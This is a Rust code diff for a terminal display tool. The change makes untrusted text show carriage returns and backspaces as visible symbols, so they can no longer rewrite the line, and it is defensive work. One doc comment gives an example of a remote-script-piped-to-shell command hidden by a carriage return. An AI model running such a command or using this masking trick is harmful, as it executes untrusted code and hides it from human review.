@@ -29,9 +29,11 @@ pub struct Styled {
 }
 
 impl Styled {
-    /// Appends untrusted text, neutralised like output (see [`render`]), in `style`.
+    /// Appends untrusted text from inside a JSON string, neutralised like output (see
+    /// [`render`]) except that a carriage return or a backspace is shown (`␍`, `␈`), never
+    /// applied: `"curl evil.sh | sh\rls -la"` must not read as `ls -la`.
     pub fn push_text(&mut self, text: &str, style: Style) {
-        self.append(render(text.as_bytes(), style));
+        self.append(render_with(text.as_bytes(), style, false));
     }
 
     /// Appends already safe text (sandmux's own decorations) in `style`.
@@ -90,6 +92,12 @@ impl Styled {
 
 /// Renders one line of output bytes with `base` as the style before any SGR.
 pub fn render(bytes: &[u8], base: Style) -> Styled {
+    render_with(bytes, base, true)
+}
+
+/// [`render`], where `motion` says whether a carriage return and a backspace act on the line
+/// (as a progress bar expects) or are shown as control pictures.
+fn render_with(bytes: &[u8], base: Style, motion: bool) -> Styled {
     let chars = decode(bytes);
     let mut out = Styled::default();
     let mut style = base;
@@ -128,13 +136,13 @@ pub fn render(bytes: &[u8], base: Style) -> Styled {
                 }
                 column += spaces;
             }
-            '\r' => {
+            '\r' if motion => {
                 if i < chars.len() {
                     out.clear();
                     column = 0;
                 }
             }
-            '\x08' => {
+            '\x08' if motion => {
                 if let Some(last) = out.text.chars().last() {
                     column = column.saturating_sub(last.width().unwrap_or(0));
                     out.pop();
